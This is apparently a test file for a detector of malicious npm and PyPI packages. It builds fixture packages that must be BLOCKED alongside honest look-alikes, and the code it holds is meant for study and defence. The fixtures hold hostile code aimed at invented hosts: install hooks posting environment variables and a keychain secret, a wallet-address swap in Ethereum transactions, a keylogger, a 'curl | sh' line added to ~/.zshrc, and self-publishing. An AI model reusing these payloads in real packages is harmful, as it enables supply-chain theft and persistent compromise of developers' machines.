/**
 * The `pkg23` round (docs/package-analysis.md, "pkg23"): the misses of the odd halves of npm SET8 and
 * PyPI SET3 (scored once as held out at the end of `pkg8`, tuned on since), grouped into mechanisms,
 * and the generalising backstop (shared/packages/analysis/backstop.ts). Each mechanism has the real
 * variant, variants written here in another shape, API or language, and honest twins.
 *
 * Mechanisms:
 *  - a runner handed a path of the package (`bunx ./x.ts`, `npx ./bin/y.mjs`) runs that file at install;
 *  - the `browser` entry (what bundlers put into a web app) runs at import;
 *  - scripts a native build names (meson `run_command`, CMake `execute_process`) run at install;
 *  - `new Worker(code, { eval: true })` evaluates its first argument; `module.exports = <value>` carries
 *    its labels to `require('./x')`; a source map (`.map`) is data, and code read from it is an asset's;
 *  - a wallet provider handed over as a parameter (`wrap(window.ethereum)`) whose `request` / `send` is
 *    replaced, in a file that handles Ethereum transaction methods and writes an address in;
 *  - the backstop: risk capabilities combined in code that runs at install (files together) or import
 *    (each file), read only where the code runs by itself (module level and what it reaches).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`, TEST-NET addresses).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import type { NpmVariant } from '../support/npm-variants.js';
import { NPM_VARIANTS_SET8 } from '../support/npm-variants-set8.js';
import { blocked, honest, rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';
import { PYPI_VARIANTS_SET3 } from '../support/pypi-variants-set3.js';

const npmVariant = (id: string): NpmVariant => {
  const v = NPM_VARIANTS_SET8.find((x) => x.id === id);
  assert.ok(v, id);
  return v!;
};
const pyVariant = (id: string) => {
  const v = PYPI_VARIANTS_SET3.find((x) => x.id === id);
  assert.ok(v, id);
  return v!;
};

/** An npm package written here: package.json with `main: index.js`, the given scripts and fields, plus files. */
function npm(
  name: string,
  files: Record<string, string>,
  scripts: Record<string, string> = {},
  fields: Record<string, unknown> = {},
): NpmVariant {
  return {
    id: name,
    family: 'written here',
    files: {
      'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts, ...fields }),
      ...files,
    },
  };
}

const rateNpm = (v: NpmVariant): Promise<{ level: string; rules: string[] }> =>
  rateNpmFiles(v.files, { name: v.id, version: '1.0.0' });

async function npmBlocked(v: NpmVariant, rule?: string): Promise<void> {
  const r = await rateNpm(v);
  assert.is(r.level, 'BLOCKED', `${v.id}: ${r.level} (${r.rules.join(', ')})`);
  if (rule)
    assert.ok(
      r.rules.some((x) => x.startsWith(`${rule}:`)),
      `${v.id}: ${rule} not among ${r.rules.join(', ')}`,
    );
}

async function npmHonest(v: NpmVariant): Promise<void> {
  const r = await rateNpm(v);
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${v.id}: ${r.level} (${r.rules.join(', ')})`);
}

// ---- the real variants (odd halves, tuned on this round) -------------------------------------------------

const ODD_NPM = [
  's8/worm-npm-cli-repack-publish',
  's8/agent-instructions-planted-in-consumer',
  's8/debug-like-ethereum-request-proxy',
  's8/icmp-ping-pattern-exfil',
  's8/bun-shell-from-install-bin',
  's8/osascript-password-phish',
  's8/node-modules-bin-shim',
  's8/sourcemap-sourcescontent-eval',
  's8/worker-threads-eval-on-import',
];
for (const id of ODD_NPM) test(`real: ${id} BLOCKED`, async () => npmBlocked(npmVariant(id)));

const ODD_PY = [
  's3/meson-run-command-env-post',
  's3/excepthook-locals-exfil',
  's3/certutil-urlcache-download',
  's3/fish-conf-d-persistence',
  's3/pynput-keylogger-import',
  's3/runner-worker-memory',
];
for (const id of ODD_PY) test(`real: ${id} BLOCKED`, async () => blocked(pyVariant(id)));

// ---- runners, entries and build scripts --------------------------------------------------------------------

test('npx of a local .mjs from a hook runs it: the environment sent from it BLOCKED', async () => {
  await npmBlocked(
    npm(
      'setup-presets',
      {
        'index.js': 'module.exports = {};\n',
        'scripts/apply.mjs':
          "await fetch('https://198.51.100.40/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
      },
      { postinstall: 'npx ./scripts/apply.mjs' },
    ),
  );
});

test('honest: npx of a published tool by name is not a file of the package', async () => {
  const r = await rateNpm(npm('uses-tool', { 'index.js': 'module.exports = 1;\n' }, { prepare: 'npx husky' }));
  assert.is.not(r.level, 'BLOCKED');
});

test('browser entry (object map) runs at import: a provider hook there BLOCKED', async () => {
  const addr = `0x${'ab12'.repeat(10)}`;
  await npmBlocked(
    npm(
      'tiny-log',
      {
        'index.js': 'module.exports = console.log;\n',
        'web.js': `var A = '${addr}';\nfunction hook(pr) { var send = pr.send.bind(pr); pr.send = function (method, params) { if (method === 'eth_signTransaction' && params && params[0]) params[0].to = A; return send(method, params); }; }\nif (typeof window !== 'undefined' && window.ethereum) hook(window.ethereum);\nmodule.exports = console.log;\n`,
      },
      {},
      { browser: { './index.js': './web.js' } },
    ),
    'wallet_hijack',
  );
});

test('honest: a provider wrapper that logs requests and writes no address in', async () => {
  await npmHonest(
    npm('provider-logger', {
      'index.js':
        "module.exports = function wrap(p) { var req = p.request.bind(p); p.request = function (a) { if (a.method === 'eth_sendTransaction') console.debug('tx', a.params); return req(a); }; return p; };\n",
    }),
  );
});

test('honest: a provider class defining its own send (a framework bundle naming transaction methods and an address)', async () => {
  const r = await rateNpm(
    npm('eth-provider-lib', {
      'index.js': `function IpcProvider(path) { this.path = path; }\nIpcProvider.prototype.send = function (method, params) { if (method === 'eth_sendTransaction') return this._send({ method, params }); return this._send({ method, params }); };\nconst ZERO = '0x${'0'.repeat(40)}';\nmodule.exports = { IpcProvider, ZERO };\n`,
    }),
  );
  assert.not.ok(
    r.rules.some((x) => x.startsWith('wallet_hijack')),
    r.rules.join(', '),
  );
});

test('CMake execute_process of a shipped script under scikit-build-core: the script runs at install', async () => {
  await blocked(
    sdist('kdtree-fast', {
      'pyproject.toml':
        '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n\n[project]\nname = "kdtree-fast"\nversion = "1.0.0"\n',
      'CMakeLists.txt':
        'cmake_minimum_required(VERSION 3.15)\nproject(kdtree LANGUAGES C)\nexecute_process(COMMAND ${Python_EXECUTABLE} cmake/probe.py OUTPUT_VARIABLE FLAGS)\n',
      'cmake/probe.py':
        "import json, os, urllib.request\nurllib.request.urlopen('http://203.0.113.77/p', json.dumps(dict(os.environ)).encode(), timeout=3)\nprint('-O2')\n",
    }),
  );
});

test('honest: meson run_command of a version script that reads a file', async () => {
  await honest(
    sdist('meson-ver', {
      'pyproject.toml': '[build-system]\nrequires = ["meson-python"]\nbuild-backend = "mesonpy"\n',
      'meson.build':
        "project('meson-ver', 'c', version: run_command('python3', 'tools/version.py', check: true).stdout().strip())\n",
      'tools/version.py': "import pathlib\nprint(pathlib.Path('VERSION').read_text().strip())\n",
    }),
  );
});

// ---- code evaluated from a worker string, a module's value, a source map ---------------------------------

test('ESM: a worker evaluating a base64-decoded string BLOCKED', async () => {
  await npmBlocked(
    npm(
      'job-pool',
      {
        'index.js': `import { Worker } from 'node:worker_threads';\nconst src = Buffer.from('${Buffer.from("require('https').get('https://c2.example/x')").toString('base64')}', 'base64').toString('utf8');\nnew Worker(src, { eval: true });\nexport default 1;\n`,
      },
      {},
      { type: 'module' },
    ),
    'decoded_code_eval',
  );
});

test('honest: a worker evaluating a literal of its own code', async () => {
  await npmHonest(
    npm('worker-lit', {
      'index.js':
        "const { Worker } = require('worker_threads');\nmodule.exports = () => new Worker('const { parentPort } = require(\"worker_threads\"); parentPort.postMessage(1);', { eval: true });\n",
    }),
  );
});

test('a source map read and its sourcesContent run through Function BLOCKED', async () => {
  await npmBlocked(
    npm('emit-lite', {
      'index.js':
        "const fs = require('fs');\nconst map = JSON.parse(fs.readFileSync(require('path').join(__dirname, 'index.js.map'), 'utf8'));\nnew Function(map.sourcesContent[1])();\nmodule.exports = {};\n",
      'index.js.map': JSON.stringify({
        version: 3,
        sources: ['a.ts', 'b.ts'],
        sourcesContent: ['', "require('https').get('https://c2.example/y')"],
        mappings: '',
      }),
    }),
    'asset_code_eval',
  );
});

test('honest: a source-map reader parsing its own map', async () => {
  await npmHonest(
    npm('map-read', {
      'index.js':
        "const fs = require('fs');\nmodule.exports = (file) => JSON.parse(fs.readFileSync(file + '.map', 'utf8')).sources;\n",
    }),
  );
});

// ---- the backstop ------------------------------------------------------------------------------------------

test('backstop: a secret (keychain) sent at install to a host merely named after the package BLOCKED', async () => {
  await npmBlocked(
    npm(
      'keyring-sync',
      {
        'index.js': 'module.exports = {};\n',
        'post.js':
          "const { execSync } = require('child_process');\nconst https = require('https');\nconst s = execSync('security find-generic-password -ga login 2>&1').toString();\nconst r = https.request('https://upload.keyring-sync.example/k', { method: 'POST' });\nr.end(s);\n",
      },
      { postinstall: 'node post.js' },
    ),
  );
});

test('backstop: Python setup.py pings a secret-filtered environment out in the pattern field BLOCKED', async () => {
  await blocked(
    sdist('netcheck-py', {
      'setup.py':
        "import os, subprocess\nfrom setuptools import setup\nkeys = ';'.join(k + '=' + v for k, v in os.environ.items() if 'TOKEN' in k or 'SECRET' in k)\nfor i in range(0, len(keys.encode().hex()), 32):\n    subprocess.run(['ping', '-c', '1', '-p', keys.encode().hex()[i:i + 32], '198.51.100.9'], capture_output=True)\nsetup(name='netcheck-py', version='1.0.0')\n",
    }),
  );
});

test('backstop: JavaScript appends a download piped into a shell to ~/.zshrc at install BLOCKED', async () => {
  await npmBlocked(
    npm(
      'zsh-theme-pack',
      {
        'index.js': 'module.exports = {};\n',
        'i.js':
          "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\n(curl -fsS https://t.zsh-cdn.example/a | sh &) 2>/dev/null\\n');\n",
      },
      { postinstall: 'node i.js' },
    ),
  );
});

test('backstop: an import that starts a keyboard listener and posts keys (from-import form) BLOCKED', async () => {
  await blocked(
    sdist('hotkey-bind', {
      'hotkey_bind/__init__.py':
        "import threading, time, urllib.request\nfrom pynput.keyboard import Listener\n\nbuf = []\n\n\ndef on_key(k):\n    buf.append(str(k))\n\n\ndef pump():\n    while True:\n        time.sleep(30)\n        urllib.request.urlopen('https://k.hotkey-cdn.example/u', ''.join(buf).encode())\n\n\nListener(on_press=on_key).start()\nthreading.Thread(target=pump, daemon=True).start()\n",
    }),
  );
});

test('backstop: a publish at install through a wrapper function BLOCKED', async () => {
  await npmBlocked(
    npm(
      'left-pad-lines',
      {
        'index.js': 'module.exports = (s) => s;\n',
        'w.js':
          "const cp = require('child_process');\nconst run = (c) => cp.execSync(c, { stdio: 'ignore' });\nfor (const d of ['a', 'b']) { try { run('cd ' + d + ' && pnpm publish --no-git-checks'); } catch (e) {} }\n",
      },
      { preinstall: 'node w.js' },
    ),
  );
});

test('honest: an AWS client reads ~/.aws/credentials and calls the AWS API at import', async () => {
  await honest(
    sdist('s3-lite', {
      's3_lite/__init__.py':
        "import configparser, os, urllib.request\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nREGION_URL = 'https://sts.amazonaws.com/'\nurllib.request.urlopen(REGION_URL, timeout=3)\n",
    }),
  );
});

test('honest: setup.py with a release command that runs twine upload', async () => {
  const r = await rate(
    sdist('rel-cmd', {
      'setup.py':
        "import os\nfrom setuptools import setup, Command\n\n\nclass Publish(Command):\n    user_options = []\n    def initialize_options(self): pass\n    def finalize_options(self): pass\n    def run(self):\n        os.system('twine upload dist/*')\n\n\nsetup(name='rel-cmd', version='1.0.0', cmdclass={'publish': Publish})\n",
    }),
  );
  assert.is.not(r.level, 'BLOCKED', r.rules.join(', '));
});

test('honest: an SSH library whose functions read keys and connect to the host the caller names', async () => {
  await honest(
    sdist('ssh-mini', {
      'ssh_mini/__init__.py': 'from .conn import connect\n',
      'ssh_mini/conn.py':
        "import os, socket\n\nDOCS = 'https://ssh-mini.readthedocs.example/'\n\n\ndef connect(host, port=22):\n    key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n    s = socket.create_connection((host, port))\n    return s, key\n\n\ndef trust(host_key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n        fh.write(host_key)\n",
    }),
  );
});

test('honest: a shell-completion installer that writes ~/.bashrc only when its command runs', async () => {
  await npmHonest(
    npm(
      'comp-install',
      {
        'index.js': 'module.exports = {};\n',
        'bin/cli.js':
          "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path');\nif (process.argv[2] === 'completion') fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsource <(comp-install completion-script)\\n');\n",
      },
      {},
      { bin: { 'comp-install': 'bin/cli.js' } },
    ),
  );
});

test.run();
